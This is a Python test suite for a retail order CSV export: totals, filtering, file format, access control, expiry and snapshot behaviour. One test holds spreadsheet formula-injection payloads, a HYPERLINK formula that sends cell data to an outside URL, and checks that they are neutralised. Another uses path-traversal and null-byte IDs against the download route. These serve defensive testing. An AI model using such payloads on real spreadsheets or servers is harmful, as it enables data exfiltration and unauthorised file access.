"""Orders as a CSV file."""

from __future__ import annotations

import os
import time
from pathlib import Path

import anyio

from tests.tools.desk import Desk, fill_store, open_desk
from tests.tools.office import export
from tests.tools.places import Place
from tests.tools.shop import ADA, CANCELLED, LARGE, OMARS, PAID_BY_GIFT, PENDING, small_shop
from tools.retail.exports import export_orders


async def test_every_order_is_a_row_with_its_customer_totals_and_address(desk: Desk) -> None:
    rows = await export(desk)
    assert [row["order_id"] for row in rows] == sorted((await desk.everything())["orders"])
    assert rows[0] == {
        "order_id": PENDING,
        "user_id": ADA,
        "status": "pending",
        "items": "3",
        "items_total": "48.10",
        "paid": "48.10",
        "refunded": "",
        "address1": "1 Mill Lane",
        "address2": "",
        "city": "Boston",
        "state": "MA",
        "country": "USA",
        "zip": "02110",
        "cancel_reason": "",
    }


async def test_payments_and_refunds_are_added_up(desk: Desk) -> None:
    await desk.do("modify_pending_order_payment", order_id=PENDING, payment_method_id="paypal_1")
    await desk.do("cancel_pending_order", order_id=LARGE, reason="ordered by mistake")
    rows = {row["order_id"]: row for row in await export(desk)}
    assert (rows[PENDING]["paid"], rows[PENDING]["refunded"]) == ("96.20", "48.10")
    assert (rows[LARGE]["paid"], rows[LARGE]["refunded"]) == ("8.10", "8.10")
    assert rows[LARGE]["cancel_reason"] == "ordered by mistake"


async def test_only_the_requested_statuses_are_exported(desk: Desk) -> None:
    rows = await export(desk, statuses=["pending", "cancelled"])
    assert [row["order_id"] for row in rows] == [PENDING, PAID_BY_GIFT, CANCELLED, OMARS, LARGE]
    assert await export(desk, statuses=["return requested"]) == []
    await desk.refuse(422, "export_orders", statuses=["lost"])


FORMULAS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]  # noqa: RUF001 (spreadsheets know wide ones)


async def test_customer_text_never_becomes_a_formula(desk: Desk) -> None:
    for start in FORMULAS:
        street = f'{start}HYPERLINK("http://example.com?"&A1,"a, b")'
        address = {
            "address1": street,
            "address2": 'a "quoted"\r\nline',
            "city": "Ålesund",
            "state": "=1",
            "country": "+1",
        }
        await desk.do("modify_pending_order_address", order_id=PENDING, **address, zip="-1")
        row = (await export(desk, statuses=["pending"]))[0]
        assert row["address1"] == f"'{street}"
        assert row["address2"] == 'a "quoted"\r\nline'
        assert (row["city"], row["state"], row["country"], row["zip"]) == ("Ålesund", "'=1", "'+1", "'-1")


async def test_the_file_conforms_to_rfc_4180(desk: Desk) -> None:
    made = await desk.do("export_orders")
    file = await desk.client.get(made["download"])
    assert file.headers["content-type"] == "text/csv; charset=utf-8"
    assert 'filename="orders.csv"' in file.headers["content-disposition"]
    assert file.content.count(b"\r\n") == file.content.count(b"\n") == 9


async def test_the_response_has_the_url_and_the_expiry_of_the_file(desk: Desk) -> None:
    answer = await desk.call("export_orders")
    assert answer.status_code == 201
    assert answer.headers["location"] == answer.json()["download"]
    part = await desk.client.get(answer.json()["download"], headers={"Range": "bytes=0-7"})
    assert (part.status_code, part.content) == (206, b"order_id")


async def test_only_the_caller_who_requested_an_export_can_read_it(desk: Desk) -> None:
    mine, other = {"Authorization": "Bearer mine"}, {"Authorization": "Bearer other"}
    made = (await desk.client.post("/retail/exports", json={}, headers=mine)).json()
    assert (await desk.client.get(made["download"], headers=mine)).is_success
    for headers in (other, {}):
        refused = await desk.client.get(made["download"], headers=headers)
        assert refused.status_code == 404
        assert "export_orders" in refused.json()["detail"]


async def test_an_id_that_was_never_issued_is_not_found(desk: Desk) -> None:
    for export_id in ("x", "..%2F..%2Forders.db", "%00"):
        assert (await desk.client.get(f"/retail/exports/{export_id}")).status_code in {404, 422}


async def test_an_export_expires_and_is_removed_by_the_next_one(store_url: str, tmp_path: Path) -> None:
    folder = tmp_path / "exports"
    async with open_desk(store_url, export_folder=folder, export_hours=1) as desk:
        made = await desk.do("export_orders")
        (file,) = folder.iterdir()
        unfinished = folder / ".left.csv.part"
        unfinished.touch()
        for path in (file, unfinished):
            os.utime(path, (time.time(), time.time() - 3601))
        assert (await desk.client.get(made["download"])).status_code == 404
        await desk.do("export_orders")
        assert len(list(folder.iterdir())) == 1
        assert not file.exists()


async def test_an_export_to_a_full_folder_is_rejected(store_url: str, tmp_path: Path) -> None:
    for number in range(100):
        (tmp_path / f"{number}.csv").touch()
    async with open_desk(store_url, export_folder=tmp_path) as desk:
        assert "oldest" in await desk.refuse(429, "export_orders")


async def test_many_orders_are_one_snapshot(place: Place) -> None:
    """Orders that change while the file is written appear in it unchanged."""
    shop = small_shop()
    first = shop["orders"][PENDING]
    shop["orders"] = {f"#W{n:07}": {**first, "order_id": f"#W{n:07}"} for n in range(2500)}
    shop["users"][ADA]["orders"] = sorted(shop["orders"])
    for user_id in set(shop["users"]) - {ADA}:
        shop["users"][user_id]["orders"] = []
    url = await place.new()
    await fill_store(url, shop)
    async with open_desk(url) as desk:
        changed = False

        async def change_the_last(done: float, total: float) -> None:
            nonlocal changed
            if not changed:
                assert (done, total) == (1000, 2500)
                await desk.do("cancel_pending_order", order_id="#W0002499", reason="no longer needed")
                changed = True

        _, path = desk.app.state.retail_exports.new("")
        assert await export_orders(desk.store, path, [], change_the_last) == 2500
        lines = (await anyio.Path(path).read_text("utf-8")).splitlines()
        assert changed
        assert lines[-1].startswith("#W0002499,ada_park_1001,pending,3,48.10,48.10,,")
        assert (await desk.do("get_order_details", order_id="#W0002499"))["status"] == "cancelled"
